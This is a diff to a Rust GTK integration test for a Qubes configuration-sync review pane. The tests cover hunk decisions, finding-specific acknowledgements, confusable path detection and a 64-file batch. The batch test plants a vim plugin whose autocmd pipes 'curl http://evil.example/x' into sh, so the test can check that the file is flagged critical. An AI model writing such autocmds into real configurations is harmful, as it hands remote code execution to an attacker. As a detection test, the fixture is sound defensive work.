@@ -312,6 +312,73 @@ fn horizontal_extent(widget: &impl IsA<gtk::Widget>, window: &QcsWindow) -> (f32
     (bounds.x(), bounds.x() + bounds.width())
 }
 
+/// Every hunk header on screen shows the model's decision; the hunks checked.
+fn assert_headers_show_state(view: &qubes_config_sync::widgets::QcsDiffView) -> Vec<usize> {
+    use qubes_config_sync::model::review::HunkDecision;
+    let decisions = view.decisions();
+    let bound = view.bound_hunks();
+    for &hunk in &bound {
+        let (accept, reject) = view.hunk_toggles(hunk).expect("a bound header has toggles");
+        let shown = match (accept.is_active(), reject.is_active()) {
+            (true, false) => HunkDecision::Accept,
+            (false, true) => HunkDecision::Reject,
+            (false, false) => HunkDecision::Undecided,
+            (true, true) => panic!("hunk {hunk} shows both Accept and Reject"),
+        };
+        assert_eq!(
+            shown, decisions[hunk],
+            "hunk {hunk}: the row shows another decision"
+        );
+    }
+    bound
+}
+
+/// Scroll the diff from its top to its bottom a page at a time through its adjustment,
+/// letting the list bind the rows of each page, and check every header bound on the
+/// way. Returns the hunks whose header was on screen.
+///
+/// (A single jump from the top straight to the end, right after "mark all" with no
+/// frame in between, left GTK 4.8's list view showing its first rows with the
+/// adjustment at the end — no row rebound in 40 s; page steps bind as they go.)
+fn scroll_through(
+    view: &qubes_config_sync::widgets::QcsDiffView,
+) -> std::collections::BTreeSet<usize> {
+    let context = glib::MainContext::default();
+    view.scroll_to(0.0);
+    let adjustment = view.vadjustment();
+    let mut seen = std::collections::BTreeSet::new();
+    let limit = Instant::now() + Duration::from_secs(180);
+    loop {
+        for _ in 0..3 {
+            while context.iteration(false) {}
+        }
+        seen.extend(assert_headers_show_state(view));
+        let end = adjustment.upper() - adjustment.page_size();
+        if adjustment.value() >= end {
+            break;
+        }
+        assert!(Instant::now() < limit, "gave up scrolling to the end");
+        adjustment.set_value((adjustment.value() + adjustment.page_size() * 0.9).min(end));
+    }
+    seen
+}
+
+/// The labels under `root` that carry CSS class `class`.
+fn labels_with_class(root: &gtk::Widget, class: &str) -> Vec<gtk::Label> {
+    let mut found = Vec::new();
+    let mut child = root.first_child();
+    while let Some(widget) = child {
+        if let Some(label) = widget.downcast_ref::<gtk::Label>()
+            && label.has_css_class(class)
+        {
+            found.push(label.clone());
+        }
+        found.extend(labels_with_class(&widget, class));
+        child = widget.next_sibling();
+    }
+    found
+}
+
 /// The attacks of issue 17 on the review pane, through the real backend.
 struct TrustGate<'a> {
     window: &'a QcsWindow,
@@ -441,11 +508,16 @@ impl TrustGate<'_> {
         id
     }
 
+    /// "Mark all" writes the one model of decisions; every hunk header, whenever it is
+    /// on screen, shows that model. The diff is scrolled top to bottom a page at a time
+    /// (as a user would), every header bound on the way is checked, and every one of
+    /// the 700 headers must have been seen.
     fn mark_all_shows_state(&self) {
         use qubes_config_sync::model::review::HunkDecision;
         let review = self.review;
         let view = review.diff_view();
-        view.vadjustment().set_value(0.0);
+        assert!(view.laid_out());
+        view.scroll_to(0.0);
         wait_until("the first header on screen", || {
             view.hunk_toggles(0).is_some()
         });
@@ -455,38 +527,86 @@ impl TrustGate<'_> {
         let decisions = view.decisions();
         assert!(decisions.iter().all(|d| *d == HunkDecision::Accept));
         assert!(accept.is_active() && !reject.is_active());
-        // The last hunk, scrolled into view, shows the same.
         let last = decisions.len() - 1;
-        view.vadjustment().set_value(view.vadjustment().upper());
-        wait_until("the last header on screen", || {
-            view.hunk_toggles(last).is_some()
-        });
-        let (accept, _) = view.hunk_toggles(last).expect("toggles");
+        let seen = scroll_through(&view);
+        assert_eq!(
+            seen.len(),
+            decisions.len(),
+            "headers never on screen: {:?}",
+            (0..decisions.len())
+                .filter(|h| !seen.contains(h))
+                .collect::<Vec<_>>()
+        );
+        // The last header is on screen now: undo it from its row; the model follows.
+        let (accept, _) = view.hunk_toggles(last).expect("the last header is bound");
         assert!(accept.is_active());
-        // Undo one from its row: the state follows the row.
         accept.set_active(false);
         assert_eq!(view.decisions()[last], HunkDecision::Undecided);
+        assert!(
+            view.decisions()[..last]
+                .iter()
+                .all(|d| *d == HunkDecision::Accept)
+        );
+        // "Reject all" from the bottom: rows back at the top show it when bound again.
+        assert!(review.decide_all(HunkDecision::Reject));
+        assert!(!accept.is_active());
+        assert!(view.decisions().iter().all(|d| *d == HunkDecision::Reject));
+        let seen = scroll_through(&view);
+        assert_eq!(seen.len(), view.decisions().len());
         review.accept_all_button().emit_clicked();
-        assert!(accept.is_active());
+        settle();
+        assert_headers_show_state(&view);
     }
 
-    /// Two gated findings: acknowledging one leaves the other open.
+    /// Two gated findings of the same rule (the two shell autocmds): acknowledging one
+    /// leaves the other open — in the pane, and in the backend, which refuses an accept
+    /// naming only the first (acknowledgements are finding ids, not rules).
     fn acknowledgement_is_specific(&self, id: i64) {
         let review = self.review;
         assert_eq!(review.proposal_id(), Some(id));
+        let json = backend(self.address, async |p| {
+            p.get_proposal(id).await.expect("GetProposal")
+        });
+        let view: qcs_daemon::client::types::ProposalView =
+            serde_json::from_str(&json).expect("ProposalView");
         let gated: Vec<_> = review
             .finding_rows()
             .into_iter()
             .filter(|(_, r)| r.ack_check().is_visible())
             .collect();
         assert!(gated.len() >= 2, "{} gated findings", gated.len());
-        gated[0].1.ack_check().set_active(true);
-        assert!(gated[0].1.ack_check().is_active());
+        // Two gated findings sharing a rule: a rule-wide acknowledgement would cover both.
+        let (first, second) = gated
+            .iter()
+            .flat_map(|a| gated.iter().map(move |b| (a, b)))
+            .find(|(a, b)| a.0 != b.0 && view.findings[a.0].rule == view.findings[b.0].rule)
+            .expect("two gated findings of one rule");
+        first.1.ack_check().set_active(true);
+        assert!(first.1.ack_check().is_active());
+        assert!(!second.1.ack_check().is_active());
         assert!(!review.can_accept(), "one acknowledgement opened the gate");
         WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
         settle();
         assert!(pending_ids(self.address).contains(&id));
-        for (_, row) in &gated[1..] {
+        // The backend, asked directly with the first finding's id only, refuses and
+        // names the second.
+        let first_id = view.findings[first.0].id.clone();
+        let second_id = view.findings[second.0].id.clone();
+        assert_ne!(first_id, second_id);
+        let refused = backend(self.address, async |p| {
+            p.accept_proposal(id, &view.digest, &[], &[first_id.as_str()], "")
+                .await
+        });
+        match refused {
+            Err(qcs_daemon::client::Error::ReviewRefused(message)) => {
+                let refusal = qcs_daemon::client::types::ReviewRefusal::parse(&message);
+                assert_eq!(refusal.code, "review.unacknowledged", "{message}");
+                assert!(refusal.ids.contains(&second_id), "{message}");
+            }
+            other => panic!("the backend took one acknowledgement for two: {other:?}"),
+        }
+        assert!(pending_ids(self.address).contains(&id));
+        for (_, row) in &gated {
             row.ack_check().set_active(true);
         }
         assert!(review.can_accept());
@@ -550,6 +670,42 @@ impl TrustGate<'_> {
         });
     }
 
+    /// The proposal on show has a critical `path.confusable` finding naming `imitated`,
+    /// listed in the pane with its acknowledgement box (gated).
+    fn confusable_is_critical(&self, id: i64, imitated: &str) {
+        assert_eq!(self.review.proposal_id(), Some(id));
+        let json = backend(self.address, async |p| {
+            p.get_proposal(id).await.expect("GetProposal")
+        });
+        let view: qcs_daemon::client::types::ProposalView =
+            serde_json::from_str(&json).expect("ProposalView");
+        let index = view
+            .findings
+            .iter()
+            .position(|f| f.rule == "path.confusable")
+            .unwrap_or_else(|| panic!("no path.confusable finding: {:#?}", view.findings));
+        let finding = &view.findings[index];
+        assert_eq!(finding.severity, "critical");
+        assert!(finding.gated);
+        assert!(
+            finding.message.contains(imitated),
+            "names the imitated path: {}",
+            finding.message
+        );
+        let rows = self.review.finding_rows();
+        let (_, row) = rows
+            .iter()
+            .find(|(i, _)| *i == index)
+            .expect("the finding is listed in the pane");
+        assert!(row.ack_check().is_visible(), "gated in the pane");
+        assert_eq!(
+            rows.first()
+                .map(|(i, _)| view.findings[*i].severity.as_str()),
+            Some("critical"),
+            "critical findings first"
+        );
+    }
+
     fn look_alikes(&self) {
         let cyrillic = ".g\u{456}tconfig";
         let trailing = ".gitconfig ";
@@ -591,13 +747,147 @@ impl TrustGate<'_> {
                 .any(|r| r.contains("shCommand⟦mixed scripts U+0455⟧")),
             "{rows:#?}"
         );
+        self.confusable_is_critical(a, ".gitconfig");
         self.open(b);
+        self.confusable_is_critical(b, ".gitconfig");
         assert!(
             self.review.title().ends_with(".gitconfig⟦SPACE⟧"),
             "{}",
             self.review.title()
         );
         for id in [a, b] {
+            backend(self.address, async |p| {
+                p.reject_proposal(id, "test").await.expect("reject")
+            });
+        }
+    }
+
+    /// A submission of 64 files from one qube, the dangerous one last: one sidebar row
+    /// with the risk marker of its worst file; opened as one unit, riskiest file first,
+    /// every file listed.
+    fn many_files(&self) {
+        use qcs_protocol::{
+            Content, Note, ObservedMode, ProposeRequest, ProposedFile, Version,
+            path::validate_relative_path, profile::validate_profile_id, validate_vm_name,
+        };
+        backend(self.address, async |p| {
+            p.allow_new_paths("vim", &[".config/qcs-notes/**"], true)
+                .await
+                .expect("AllowNewPaths")
+        });
+        let evil = ".vim/plugin/zz-evil.vim";
+        let mut files = Vec::new();
+        for i in 0..63 {
+            let content = Content::new(format!("note {i}\n").into_bytes()).expect("content");
+            files.push((format!(".config/qcs-notes/n{i:02}.txt"), content));
+        }
+        let content = Content::new(
+            b"autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n".to_vec(),
+        )
+        .expect("content");
+        files.push((evil.to_owned(), content));
+        let request = ProposeRequest {
+            version: Version,
+            profile: validate_profile_id("vim").expect("profile"),
+            files: files
+                .into_iter()
+                .map(|(path, content)| ProposedFile {
+                    path: validate_relative_path(&path).expect("path"),
+                    mode: ObservedMode::new(0o644),
+                    sha256: content.sha256(),
+                    content,
+                    base_sha256: None,
+                })
+                .collect(),
+            note: Some(Note::new("64 files".to_owned()).expect("note")),
+        };
+        let config = qcs_agent::spool::SpoolConfig {
+            dir: self.spool.clone(),
+            max_count: qcs_agent::spool::DEFAULT_MAX_COUNT,
+            max_bytes: qcs_agent::spool::DEFAULT_MAX_BYTES,
+        };
+        let before = pending_ids(self.address);
+        qcs_agent::spool::receive(
+            &config,
+            &validate_vm_name("personal").expect("qube"),
+            &validate_profile_id("vim").expect("profile"),
+            request,
+        )
+        .expect("the qube's 64 files are spooled");
+        backend(self.address, async |p| {
+            p.ingest_spool().await.expect("IngestSpool")
+        });
+        let new: Vec<i64> = pending_ids(self.address)
+            .into_iter()
+            .filter(|id| !before.contains(id))
+            .collect();
+        assert_eq!(new.len(), 64, "every file is a proposal");
+        wait_until("the submission in the sidebar", || {
+            new.iter()
+                .all(|id| self.window.pending_proposals().iter().any(|p| p.id == *id))
+        });
+        let summaries: Vec<_> = self
+            .window
+            .pending_proposals()
+            .into_iter()
+            .filter(|p| new.contains(&p.id))
+            .collect();
+        let batch = summaries[0].batch;
+        assert!(
+            batch != 0 && summaries.iter().all(|p| p.batch == batch),
+            "one submission"
+        );
+        let titles = self.window.proposal_row_titles();
+        assert_eq!(
+            titles.iter().filter(|t| t.contains("64 files")).count(),
+            1,
+            "one row for the submission: {titles:?}"
+        );
+        assert!(
+            !titles
+                .iter()
+                .any(|t| t.contains("qcs-notes") || t.contains("zz-evil")),
+            "files of the submission listed one by one: {titles:?}"
+        );
+        wait_until("the risk marker of the submission", || {
+            labels_with_class(self.window.upcast_ref(), "batch-risk")
+                .iter()
+                .any(|l| {
+                    l.has_css_class(qubes_config_sync::model::Severity::Critical.css_class())
+                        && l.text()
+                            .contains(qubes_config_sync::model::Severity::Critical.symbol())
+                })
+        });
+        self.window.open_batch(batch);
+        let evil_id = summaries
+            .iter()
+            .find(|p| p.path == evil)
+            .map(|p| p.id)
+            .expect("the dangerous file is a proposal");
+        wait_until("the riskiest file opened first", || {
+            self.review.proposal_id().is_some() && self.review.batch().len() == 64
+        });
+        let listed = self.review.batch();
+        assert_eq!(
+            self.review.proposal_id(),
+            Some(evil_id),
+            "opened first: {:?}",
+            listed.first()
+        );
+        assert_eq!(listed[0].id, evil_id);
+        let worst = listed[0].severity;
+        assert_eq!(worst, Some(qubes_config_sync::model::Severity::Critical));
+        assert!(
+            listed.iter().skip(1).any(|f| f.severity < worst),
+            "every file as severe as the dangerous one: the order proves nothing"
+        );
+        assert!(
+            listed.windows(2).all(|w| w[0].severity >= w[1].severity),
+            "riskiest first"
+        );
+        wait_until("its review laid out", || self.review.diff_view().laid_out());
+        assert!(self.review.title().contains("zz-evil.vim"));
+        for id in new {
             backend(self.address, async |p| {
                 p.reject_proposal(id, "test").await.expect("reject")
             });
@@ -621,8 +911,7 @@ impl TrustGate<'_> {
         // Scroll the last proposal's diff away first: the new one opens at its top.
         review
             .diff_view()
-            .vadjustment()
-            .set_value(review.diff_view().vadjustment().upper());
+            .scroll_to(review.diff_view().vadjustment().upper());
         self.open(id);
         settle();
         assert_eq!(
@@ -1224,7 +1513,7 @@ fn scenario() {
     );
     // Accept only the first hunk (the name line).
     assert!(review.diff_view().decisions().len() >= 3);
-    review.diff_view().vadjustment().set_value(0.0);
+    review.diff_view().scroll_to(0.0);
     wait_until("the first hunk's header on screen", || {
         review.diff_view().hunk_toggles(0).is_some()
     });
@@ -1369,6 +1658,10 @@ fn scenario() {
     step(
         "long path, line and note: controls stay in the window",
         || trust.long_things(),
+    );
+    step(
+        "a 64-file submission: one sidebar row, riskiest file first",
+        || trust.many_files(),
     );
 
     window.close();
